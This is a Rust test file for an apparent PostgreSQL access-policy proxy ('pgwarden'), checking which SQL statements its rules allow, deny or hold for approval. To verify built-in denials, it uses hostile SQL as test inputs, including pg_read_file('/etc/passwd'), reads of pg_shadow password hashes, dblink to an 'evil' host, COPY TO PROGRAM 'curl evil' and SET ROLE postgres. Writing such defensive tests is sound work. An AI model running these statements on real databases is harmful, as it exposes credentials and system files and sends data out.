use super::*;
use pgwarden_api::DatabaseAccessPolicySpec;

fn spec(yaml_rules: &str, default: &str) -> DatabaseAccessPolicySpec {
    let y = format!(
        "identity: {{localTrust: {{subject: dev}}}}\ndatabase: {{host: h, name: shop, credentialsSecret: c}}\ndefaultAction: {default}\nrules:\n{yaml_rules}"
    );
    serde_yaml_ng::from_str(&y).unwrap()
}

/// The example policy of DESIGN.md §2.
fn design_gate() -> Gate {
    Gate::new(
        &spec(
            r#"
  - {name: no-file-access, action: Deny, functions: ["pg_read_*", "lo_*"]}
  - {name: schema-changes, action: RequireApproval, statements: [DDL]}
  - {name: bulk-writes, action: RequireApproval, statements: [UPDATE, DELETE], unfiltered: true}
  - {name: app-data, action: Allow, statements: [SELECT, INSERT, UPDATE, DELETE], tables: ["public.orders", "public.order_items", "public.customers"]}
  - {name: all-functions-allowed, action: Allow, functions: ["*"]}
"#,
            "Deny",
        ),
        64,
    )
}

fn verdict(g: &Gate, sql: &str) -> (Action, String) {
    let j = g.evaluate(sql);
    (j.action(), j.reason())
}

#[test]
fn rules_decide_in_order_and_the_default_decides_the_rest() {
    let g = design_gate();
    let cases: &[(&str, Action, &str)] = &[
        (
            "SELECT * FROM orders WHERE id = 1",
            Action::Allow,
            "rule \"app-data\"",
        ),
        (
            "DELETE FROM orders WHERE id = 1",
            Action::Allow,
            "rule \"app-data\"",
        ),
        (
            "DELETE FROM orders",
            Action::RequireApproval,
            "rule \"bulk-writes\": DELETE on public.orders without WHERE",
        ),
        (
            "UPDATE customers SET name = 'x'",
            Action::RequireApproval,
            "bulk-writes",
        ),
        (
            "ALTER TABLE orders ADD COLUMN note text",
            Action::RequireApproval,
            "rule \"schema-changes\"",
        ),
        (
            "SELECT * FROM secrets",
            Action::Deny,
            "denied by default action: SELECT on public.secrets",
        ),
        ("TRUNCATE orders", Action::Deny, "default action"),
        // The most severe access decides: one denied read sinks the statement.
        (
            "SELECT * FROM orders JOIN secrets USING (id)",
            Action::Deny,
            "public.secrets",
        ),
        (
            "INSERT INTO orders SELECT * FROM secrets",
            Action::Deny,
            "public.secrets",
        ),
        // Deny outranks RequireApproval within one query string.
        (
            "ALTER TABLE orders ADD c int; SELECT * FROM secrets",
            Action::Deny,
            "public.secrets",
        ),
        // A rule's function glob; the rule comes before the allow-all one.
        (
            "SELECT lo_import('/etc/passwd')",
            Action::Deny,
            "built-in rule: function lo_import",
        ),
        ("SELECT 1", Action::Allow, ""),
        ("SELECT now(), count(*) FROM orders", Action::Allow, ""),
        ("SHOW server_version", Action::Allow, ""),
        ("BEGIN", Action::Allow, ""),
        (
            "SELECT relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace",
            Action::Allow,
            "",
        ),
        (
            "SELECT * FROM information_schema.columns",
            Action::Allow,
            "",
        ),
        ("SELEC 1", Action::Deny, "cannot parse"),
    ];
    let mut failures = Vec::new();
    for (sql, want, reason) in cases {
        let (got, why) = verdict(&g, sql);
        if got != *want || !why.contains(reason) {
            failures.push(format!(
                "{sql}: want {want:?} ({reason}), got {got:?} ({why})"
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn built_in_denials_cannot_be_overridden() {
    let g = Gate::new(
        &spec(
            r#"
  - {name: everything, action: Allow, statements: [SELECT, INSERT, UPDATE, DELETE, MERGE, TRUNCATE, COPY_FROM, COPY_TO, DDL, PRIVILEGE, TRANSACTION, SESSION, EXPLAIN, MAINTENANCE, CODE]}
  - {name: all-functions, action: Allow, functions: ["*"]}
"#,
            "Allow",
        ),
        64,
    );
    for sql in [
        "SELECT * FROM pg_authid",
        "SELECT passwd FROM pg_shadow",
        "SELECT * FROM pg_stats",
        "SELECT query FROM pg_stat_activity",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
        "SELECT query_to_xml('select * from secrets', true, true, '')",
        "SELECT set_config('search_path', 'evil', false)",
        "SET search_path = evil",
        "SET ROLE postgres",
        "ALTER SYSTEM SET fsync = off",
        "COPY orders TO PROGRAM 'curl evil'",
        "LOAD 'evil'",
        "CREATE VIEW v AS SELECT * FROM pg_authid",
    ] {
        let (got, why) = verdict(&g, sql);
        assert_eq!(got, Action::Deny, "{sql}: {why}");
        assert!(why.contains("built-in"), "{sql}: {why}");
    }
}

#[test]
fn rules_with_tables_scope_ddl_and_never_match_tableless_statements() {
    let g = Gate::new(
        &spec(
            "  - {name: app-ddl, action: Allow, statements: [DDL, TRUNCATE], tables: [\"public.app_*\"]}\n",
            "Deny",
        ),
        64,
    );
    assert_eq!(
        verdict(&g, "ALTER TABLE app_orders ADD c int").0,
        Action::Allow
    );
    assert_eq!(
        verdict(&g, "CREATE TABLE app_new (id int)").0,
        Action::Allow
    );
    assert_eq!(verdict(&g, "TRUNCATE app_orders").0, Action::Allow);
    assert_eq!(verdict(&g, "DROP TABLE app_a, orders").0, Action::Deny);
    assert_eq!(verdict(&g, "ALTER TABLE orders ADD c int").0, Action::Deny);
    // A statement with no table is not covered by a rule that names tables.
    assert_eq!(verdict(&g, "CREATE SCHEMA s").0, Action::Deny);
    assert_eq!(verdict(&g, "DO $$ BEGIN END $$").0, Action::Deny);
    let g = Gate::new(
        &spec(
            "  - {name: ddl, action: Allow, statements: [DDL]}\n",
            "Deny",
        ),
        64,
    );
    assert_eq!(verdict(&g, "ALTER TABLE orders ADD c int").0, Action::Allow);
    assert_eq!(verdict(&g, "CREATE SCHEMA s").0, Action::Allow);
}

#[test]
fn user_functions_fall_to_the_default_builtins_do_not() {
    let g = Gate::new(
        &spec(
            "  - {name: read, action: Allow, statements: [SELECT]}\n",
            "Deny",
        ),
        64,
    );
    assert_eq!(verdict(&g, "SELECT lower('X')").0, Action::Allow);
    assert_eq!(verdict(&g, "SELECT pg_catalog.lower('X')").0, Action::Allow);
    let (a, why) = verdict(&g, "SELECT public.dump_cards()");
    assert_eq!(a, Action::Deny, "{why}");
    assert_eq!(verdict(&g, "SELECT dump_cards()").0, Action::Deny);
    assert_eq!(
        verdict(
            &g,
            "SELECT (information_schema._pg_expandarray(ARRAY[1])).n"
        )
        .0,
        Action::Allow
    );
    // A user function in another schema named like a built-in is not one.
    assert_eq!(verdict(&g, "SELECT evil.lower('x')").0, Action::Deny);
}

#[test]
fn execute_runs_only_what_this_session_prepared_through_the_gate() {
    let g = design_gate();
    let mut s = SessionState::default();
    assert!(matches!(
        g.judge("EXECUTE p(1)", &mut s),
        Verdict::Refuse(_)
    ));
    assert_eq!(
        g.judge("PREPARE p AS SELECT * FROM orders WHERE id = $1", &mut s),
        Verdict::Allow
    );
    assert_eq!(g.judge("EXECUTE p(1)", &mut s), Verdict::Allow);
    // A denied PREPARE creates nothing to execute.
    assert!(matches!(
        g.judge("PREPARE q AS SELECT * FROM secrets", &mut s),
        Verdict::Refuse(_)
    ));
    assert!(matches!(g.judge("EXECUTE q", &mut s), Verdict::Refuse(_)));
    assert_eq!(g.judge("DEALLOCATE p", &mut s), Verdict::Allow);
    assert!(matches!(
        g.judge("EXECUTE p(1)", &mut s),
        Verdict::Refuse(_)
    ));
    // In one string, in order.
    assert_eq!(
        g.judge("PREPARE r AS SELECT 1; EXECUTE r", &mut s),
        Verdict::Allow
    );
    assert!(matches!(
        g.judge("EXECUTE t; PREPARE t AS SELECT 1", &mut s),
        Verdict::Refuse(_)
    ));
    // Protocol-level names share the namespace.
    s.prepared("s1");
    assert_eq!(g.judge("EXECUTE s1", &mut s), Verdict::Allow);
    s.closed("s1");
    assert!(matches!(g.judge("EXECUTE s1", &mut s), Verdict::Refuse(_)));
}

#[test]
fn refusals_carry_the_reason_and_42501() {
    let g = design_gate();
    let Verdict::Refuse(e) = g.judge(
        "DELETE FROM customers WHERE id = 1; SELECT * FROM secrets",
        &mut SessionState::default(),
    ) else {
        panic!("should be refused");
    };
    assert_eq!(e.code.code(), "42501");
    assert!(!e.is_fatal());
    assert_eq!(
        e.message,
        "pgwarden: denied by default action: SELECT on public.secrets"
    );
}

#[test]
fn the_cache_returns_the_same_judgement_and_stays_bounded() {
    let g = Gate::new(
        &spec(
            "  - {name: read, action: Allow, statements: [SELECT]}\n",
            "Deny",
        ),
        8,
    );
    let first = g.evaluate("SELECT * FROM t");
    let a = g.evaluate("SELECT * FROM t");
    let b = g.evaluate("SELECT * FROM t");
    assert!(
        !Arc::ptr_eq(&first, &a),
        "a text is admitted on its second sighting"
    );
    assert!(
        Arc::ptr_eq(&a, &b),
        "third evaluation should be a cache hit"
    );
    // A stream of one-off texts (inlined literals) is never admitted, so it
    // cannot evict the statement that repeats.
    for i in 0..100 {
        g.evaluate(&format!("SELECT {i}"));
    }
    let c = g.evaluate("SELECT * FROM t");
    assert!(Arc::ptr_eq(&b, &c), "evicted by one-off texts");
    // Texts that do repeat are cached, within the bound.
    for i in 0..100 {
        g.evaluate(&format!("SELECT {i}"));
    }
    let d = g.evaluate("SELECT * FROM t");
    assert_eq!(d.action(), Action::Allow);
    let off = Gate::new(
        &spec(
            "  - {name: read, action: Allow, statements: [SELECT]}\n",
            "Deny",
        ),
        0,
    );
    assert!(!Arc::ptr_eq(
        &off.evaluate("SELECT 1"),
        &off.evaluate("SELECT 1")
    ));
}

#[test]
fn unparseable_text_is_refused_as_a_syntax_error() {
    let g = design_gate();
    let Verdict::Refuse(e) = g.judge("SELEC 1", &mut SessionState::default()) else {
        panic!("should be refused");
    };
    assert_eq!(e.code.code(), "42601");
    assert!(e.message.contains("cannot parse"), "{}", e.message);
}

#[test]
fn names_of_user_code_are_never_built_in() {
    let g = design_gate();
    let allow = |g: &Gate, sql: &str| g.judge(sql, &mut SessionState::default()) == Verdict::Allow;
    // Before the gate knows of user code: built-in by name.
    let no_rules = Gate::new(
        &spec(
            "  - {name: r, action: Allow, statements: [SELECT], tables: [\"public.orders\"]}\n",
            "Deny",
        ),
        64,
    );
    assert!(allow(&no_rules, "SELECT upper('x')"));
    assert!(allow(&no_rules, "SELECT 1 + 1"));
    assert!(allow(&no_rules, "SELECT o.order_audit FROM orders o"));
    // The database has public.upper(int), an operator ===, a function
    // order_audit(orders) (reachable as o.order_audit) and pg_trgm's %.
    no_rules.learn_user_code(
        ["upper".to_string(), "order_audit".to_string()],
        ["===".to_string(), "%".to_string()],
    );
    for sql in [
        "SELECT upper(1)",
        "SELECT o.order_audit FROM orders o",
        "SELECT (o).order_audit FROM orders o",
        "SELECT 1 === 1",
        "SELECT 7 % 2",
    ] {
        let Verdict::Refuse(e) = no_rules.judge(sql, &mut SessionState::default()) else {
            panic!("{sql} should be refused once user code of that name exists");
        };
        // Built-in names are refused as user code; other names (===) were
        // never built-in and fall to the default action.
        assert!(
            e.message.contains("user code") || e.message.contains("default action"),
            "{sql}: {}",
            e.message
        );
    }
    // Names that are not shadowed stay built-in; qualified pg_catalog calls too.
    assert!(allow(&no_rules, "SELECT lower('x'), 1 + 1"));
    assert!(allow(&no_rules, "SELECT pg_catalog.upper('x')"));
    // A schema-qualified user operator is user code without any snapshot.
    assert!(!allow(&no_rules, "SELECT 1 OPERATOR(public.===) 1"));
    // ... unless a rule allows it (operators are matched by `functions`).
    assert!(allow(&g, "SELECT 1 OPERATOR(public.===) 1"));
    // A rule may allow user code explicitly.
    let permissive = Gate::new(
        &spec(
            "  - {name: funcs, action: Allow, functions: [\"upper\"]}\n",
            "Deny",
        ),
        64,
    );
    permissive.learn_user_code(["upper".to_string()], []);
    assert!(allow(&permissive, "SELECT upper(1)"));
}

#[test]
fn functions_created_through_the_gate_become_user_code() {
    let g = Gate::new(
        &spec(
            "  - {name: ddl, action: Allow, statements: [DDL]}\n",
            "Deny",
        ),
        64,
    );
    let mut s = SessionState::default();
    assert_eq!(g.judge("SELECT lower('x')", &mut s), Verdict::Allow);
    assert_eq!(
        g.judge(
            "CREATE FUNCTION lower(int) RETURNS text LANGUAGE sql AS 'SELECT 1'",
            &mut s
        ),
        Verdict::Allow
    );
    // Any session of this policy now treats lower() as user code.
    assert!(matches!(
        g.judge("SELECT lower('x')", &mut SessionState::default()),
        Verdict::Refuse(_)
    ));
    assert_eq!(
        g.judge(
            "CREATE OPERATOR === (FUNCTION = f, LEFTARG = int, RIGHTARG = int)",
            &mut s
        ),
        Verdict::Allow
    );
    assert!(matches!(
        g.judge("SELECT 1 === 1", &mut s),
        Verdict::Refuse(_)
    ));
}

#[test]
fn ts_rewrite_runs_sql_text_and_is_built_in_denied() {
    let (a, why) = verdict(
        &design_gate(),
        "SELECT ts_rewrite('a'::tsquery, 'SELECT 1')",
    );
    assert_eq!(a, Action::Deny);
    assert!(why.contains("built-in"), "{why}");
}

#[test]
fn texts_that_differ_only_in_numbers_share_one_cached_judgement() {
    let g = Gate::new(
        &spec(
            "  - {name: reads, action: Allow, statements: [SELECT], tables: [\"public.orders\"]}\n",
            "Deny",
        ),
        64,
    );
    // Admission on the second sighting, then shared by every number.
    let a = g.evaluate("SELECT * FROM orders WHERE id = 1");
    let b = g.evaluate("SELECT * FROM orders WHERE id = 2");
    let c = g.evaluate("SELECT * FROM orders WHERE id = 3");
    assert!(!Arc::ptr_eq(&a, &b));
    assert!(
        Arc::ptr_eq(&b, &c),
        "the third text should come from the cache"
    );
    // Names are never merged: another table is judged on its own.
    let mut s = SessionState::default();
    assert!(matches!(
        g.judge("SELECT * FROM orders2 WHERE id = 3", &mut s),
        Verdict::Refuse(_)
    ));
    assert_eq!(
        g.judge("SELECT * FROM orders WHERE id = 4", &mut s),
        Verdict::Allow
    );
}

fn default_deny_gate(rules: &str) -> Gate {
    Gate::new(&spec(rules, "Deny"), 64)
}

/// PostgreSQL reads `x.f` / `(x).f` as `f(x)` when `x` has no column `f`:
/// every notation of a denied or restricted built-in is judged as the call.
#[test]
fn attribute_notation_is_a_function_call() {
    let g = default_deny_gate(
        r#"  - {name: app, action: Allow, statements: [SELECT], tables: ["public.customers"]}
"#,
    );
    for (sql, what) in [
        ("SELECT ('/etc/passwd'::text).pg_read_file", "pg_read_file"),
        (
            "SELECT ('/etc/passwd'::text).pg_read_binary_file",
            "pg_read_binary_file",
        ),
        ("SELECT ('select 1'::text).ts_stat", "ts_stat"),
        (
            "SELECT (NULL::int).pg_stat_get_activity",
            "pg_stat_get_activity",
        ),
        ("SELECT ('/tmp/x'::text).lo_import", "lo_import"),
        (
            "SELECT (pg_backend_pid()).pg_terminate_backend",
            "pg_terminate_backend",
        ),
        ("SELECT ('.'::text).pg_ls_dir", "pg_ls_dir"),
        (
            "SELECT t.p.pg_read_file FROM (SELECT '/etc/passwd'::text AS p) t",
            "pg_read_file",
        ),
        (
            "SELECT c.name.pg_read_file FROM customers c",
            "pg_read_file",
        ),
        ("SELECT ((1)).pg_advisory_lock", "pg_advisory_lock"),
        // structural default: restricted by the catalog, on nobody's list
        ("SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
        ("SELECT pg_export_snapshot()", "pg_export_snapshot"),
        (
            "SELECT gin_clean_pending_list('i'::regclass)",
            "gin_clean_pending_list",
        ),
        (
            "SELECT pg_logical_emit_message(true, 'x', 'y')",
            "pg_logical_emit_message",
        ),
    ] {
        let (a, why) = verdict(&g, sql);
        assert_eq!(a, Action::Deny, "{sql}: {why}");
        assert!(why.contains(what), "{sql}: {why}");
    }
    // Columns that share a harmless built-in's name stay plain columns.
    for sql in [
        "SELECT c.name, c.id FROM customers c WHERE c.name = 'Ann'",
        "SELECT customers.name FROM customers",
        "SELECT random(), clock_timestamp(), gen_random_uuid(), pg_relation_size('customers')",
        "SELECT (c).name FROM customers c",
    ] {
        let (a, why) = verdict(&g, sql);
        assert_eq!(a, Action::Allow, "{sql}: {why}");
    }
}

/// A rule naming a restricted built-in allows it; the deny list still wins.
#[test]
fn restricted_builtins_need_a_rule_naming_them() {
    let g = default_deny_gate(
        r#"  - {name: locks, action: Allow, functions: ["pg_advisory_*", "pg_read_file"]}
"#,
    );
    assert_eq!(verdict(&g, "SELECT pg_advisory_lock(42)").0, Action::Allow);
    assert_eq!(
        verdict(&g, "SELECT (42::bigint).pg_advisory_unlock").0,
        Action::Allow
    );
    let (a, why) = verdict(&g, "SELECT pg_read_file('/etc/passwd')");
    assert_eq!(a, Action::Deny, "{why}");
    assert!(why.contains("built-in rule"), "{why}");
}

/// nextval/setval write the sequence they name: the rules for that relation
/// decide, whatever the notation; an unnamed sequence cannot be judged.
#[test]
fn sequence_functions_are_writes_to_the_sequence() {
    let g = default_deny_gate(
        r#"  - {name: app, action: Allow, statements: [SELECT, INSERT, UPDATE, DELETE], tables: ["public.orders"]}
  - {name: ids, action: Allow, statements: [UPDATE], tables: ["public.orders_id_seq"]}
"#,
    );
    for sql in [
        "SELECT setval('order_seq', 100)",
        "SELECT nextval('order_seq')",
        "SELECT nextval('public.order_seq'::regclass)",
        "SELECT ('order_seq'::regclass).nextval",
        "SELECT nextval('\"public\".\"order_seq\"')",
        "SELECT pg_catalog.setval('order_seq', 1, false)",
    ] {
        let (a, why) = verdict(&g, sql);
        assert_eq!(a, Action::Deny, "{sql}: {why}");
        assert!(why.contains("public.order_seq"), "{sql}: {why}");
    }
    let (a, why) = verdict(&g, "SELECT nextval(relname::regclass) FROM pg_class");
    assert_eq!(a, Action::Deny, "{why}");
    assert!(why.contains("not named by a constant"), "{why}");
    for sql in [
        "SELECT nextval('orders_id_seq')",
        "SELECT ('orders_id_seq'::regclass).nextval",
        "SELECT currval('order_seq'), lastval()",
    ] {
        let (a, why) = verdict(&g, sql);
        assert_eq!(a, Action::Allow, "{sql}: {why}");
    }
}

#[test]
fn relation_names_parse_like_regclass_input() {
    use super::analyze::parse_relation_name as p;
    let n = |s: &str, t: &str| Some((s.to_owned(), t.to_owned()));
    assert_eq!(p("order_seq"), n("", "order_seq"));
    assert_eq!(p("Public.Order_Seq"), n("public", "order_seq"));
    assert_eq!(p("\"S\".\"a\"\"b\""), n("S", "a\"b"));
    assert_eq!(p(" s.t "), n("s", "t"));
    for bad in ["", "a.b.c", "a..b", "\"open", "a b", "a;b", "."] {
        assert_eq!(p(bad), None, "{bad}");
    }
}

/// An approved PREPARE releases one execution, like any approved statement;
/// effects apply only when a text is forwarded.
#[test]
fn an_approved_prepare_releases_one_execution() {
    let g = design_gate();
    let mut s = SessionState::default();
    let (v, j) = g.judge_with("PREPARE d AS DELETE FROM orders", &mut s);
    assert!(matches!(v, Verdict::RequireApproval(_)), "{v:?}");
    // Held, not forwarded: nothing to execute yet.
    assert!(matches!(g.judge("EXECUTE d", &mut s), Verdict::Refuse(_)));
    // The reviewer approved: the PREPARE is forwarded.
    g.apply(&j, &mut s, true);
    assert_eq!(g.judge("EXECUTE d", &mut s), Verdict::Allow);
    let Verdict::Refuse(e) = g.judge("EXECUTE d", &mut s) else {
        panic!("a second execution must be refused");
    };
    assert!(e.message.contains("one execution"), "{}", e.message);
    // Twice in one text is refused as a whole.
    g.apply(&j, &mut s, true);
    assert!(matches!(
        g.judge("EXECUTE d; EXECUTE d", &mut s),
        Verdict::Refuse(_)
    ));
    // A denied text changes nothing.
    assert!(matches!(
        g.judge("PREPARE e AS SELECT * FROM secrets; EXECUTE d", &mut s),
        Verdict::Refuse(_)
    ));
    assert_eq!(g.judge("EXECUTE d", &mut s), Verdict::Allow);
}

/// A pinned statement_timeout is refused with the limit that pins it.
#[test]
fn a_pinned_statement_timeout_names_its_limit() {
    let y = "identity: {localTrust: {subject: dev}}\ndatabase: {host: h, name: shop, credentialsSecret: c}\ndefaultAction: Allow\nlimits: {statementTimeout: 30s}\n";
    let g = Gate::new(&serde_yaml_ng::from_str(y).unwrap(), 8);
    for sql in [
        "SET statement_timeout = 0",
        "SELECT set_config('statement_timeout', '0', false)",
    ] {
        let (a, why) = verdict(&g, sql);
        assert_eq!(a, Action::Deny, "{sql}");
        assert!(why.contains("limits.statementTimeout"), "{sql}: {why}");
    }
}

/// pg_notify is NOTIFY by another name: the SESSION rules decide both.
#[test]
fn pg_notify_is_judged_as_notify() {
    let deny = default_deny_gate(
        "  - {name: reads, action: Allow, statements: [SELECT], tables: [\"public.orders\"]}\n",
    );
    let allow = default_deny_gate("  - {name: sessions, action: Allow, statements: [SESSION]}\n");
    for sql in ["SELECT pg_notify('chan', 'x')", "NOTIFY chan, 'x'"] {
        assert_eq!(verdict(&deny, sql).0, Action::Deny, "{sql}");
        assert_eq!(verdict(&allow, sql).0, Action::Allow, "{sql}");
    }
}

/// The verdict, its reason and the access list come from one decision
/// (`decide_in_session`): the verdict is the most severe listed access, the
/// reason names the deciding one, and the wire's verdict says the same.
#[test]
fn one_decision_explains_the_verdict_and_lists_the_accesses() {
    let g = Gate::new(
        &spec(
            "  - {name: read, action: Allow, statements: [SELECT], tables: [\"public.*\"]}\n  - {name: audit, action: RequireApproval, functions: [\"order_audit\"]}\n",
            "Deny",
        ),
        64,
    );
    g.learn_user_code(["upper".into(), "order_audit".into()], []);
    let mut prepared = SessionState::default();
    prepared.prepared("known");
    // (text, session has "known" prepared, verdict, deciding name, reason has)
    let cases: &[(&str, bool, Action, &str, &str)] = &[
        // Before: "deny by default action" beside "upper: allow (always)".
        (
            "SELECT upper('x')",
            false,
            Action::Deny,
            "default",
            "denied by default action: function upper (user code",
        ),
        (
            "SELECT o.order_audit FROM orders o",
            false,
            Action::RequireApproval,
            "audit",
            "approval required by rule \"audit\": function order_audit (user code",
        ),
        (
            "SELECT lower('x') FROM orders",
            false,
            Action::Allow,
            "read",
            "allowed by rule \"read\"",
        ),
        (
            "EXECUTE unknown",
            true,
            Action::Deny,
            "session",
            "denied: EXECUTE \"unknown\": it was not prepared through pgwarden",
        ),
        ("EXECUTE known", true, Action::Allow, "-", "no access"),
        // The session's refusal outranks an approval the text alone needs.
        (
            "SELECT o.order_audit FROM orders o; EXECUTE unknown",
            true,
            Action::Deny,
            "session",
            "EXECUTE \"unknown\"",
        ),
    ];
    for (sql, with_known, action, by, reason) in cases {
        let session = if *with_known {
            &mut prepared
        } else {
            &mut SessionState::default()
        };
        let j = g.evaluate(sql);
        let d = g.decide_in_session(&j, session).expect("analysed");
        assert_eq!(d.action, *action, "{sql}: {}", d.reason());
        assert_eq!(d.rule_name().unwrap_or("-"), *by, "{sql}");
        assert!(d.reason().contains(reason), "{sql}: {}", d.reason());
        // The list agrees: its most severe access is the verdict, and the
        // deciding access is in it.
        let worst = d.accesses.iter().map(|a| a.action).max();
        assert_eq!(worst.unwrap_or(Action::Allow), d.action, "{sql}: {d:#?}");
        if let Some(deciding) = &d.deciding {
            assert!(d.accesses.contains(deciding), "{sql}");
        }
        // And the wire says the same.
        let wire = g.judge_judged(j.clone(), session).0;
        match (&wire, d.action) {
            (Verdict::Allow, Action::Allow) => {}
            (Verdict::RequireApproval(why), Action::RequireApproval) => {
                assert_eq!(why, &d.reason())
            }
            (Verdict::Refuse(e), Action::Deny) => {
                assert_eq!(e.message, format!("pgwarden: {}", d.reason()))
            }
            other => panic!("{sql}: {other:?}"),
        }
    }
    // Nothing the session adds: the cached decision itself, not a copy.
    let j = g.evaluate("SELECT * FROM orders");
    let d = g.decide_in_session(&j, &SessionState::default()).unwrap();
    assert!(matches!(d, Cow::Borrowed(_)));
}

#[test]
fn audit_mode_relaxes_only_what_rules_and_the_default_decided() {
    let g = design_gate();
    let session = SessionState::default();
    let cases: &[(&str, Action, Action)] = &[
        // (text, the rules' verdict, what audit mode enforces)
        ("DELETE FROM orders", Action::RequireApproval, Action::Allow),
        ("SELECT * FROM unknown_table", Action::Deny, Action::Allow),
        ("SET ROLE postgres", Action::Deny, Action::Deny),
        ("COPY orders TO PROGRAM 'true'", Action::Deny, Action::Deny),
        (
            "SELECT pg_read_file('/etc/passwd')",
            Action::Deny,
            Action::Deny,
        ),
        // A built-in refusal beside a rule's: the built-in one stands.
        (
            "SELECT * FROM unknown_table, pg_authid",
            Action::Deny,
            Action::Deny,
        ),
        ("EXECUTE never_prepared", Action::Deny, Action::Deny),
    ];
    for (sql, rules, enforced) in cases {
        let j = g.evaluate(sql);
        let d = g.decide_in_session(&j, &session).expect("analysed");
        assert_eq!(d.action, *rules, "{sql}: {}", d.reason());
        let e = d.enforced_in_audit();
        assert_eq!(e.action, *enforced, "{sql}: {}", e.reason());
        if e.action == Action::Deny {
            assert!(!e.reason().contains("rule \""), "{sql}: {}", e.reason());
        }
    }
}
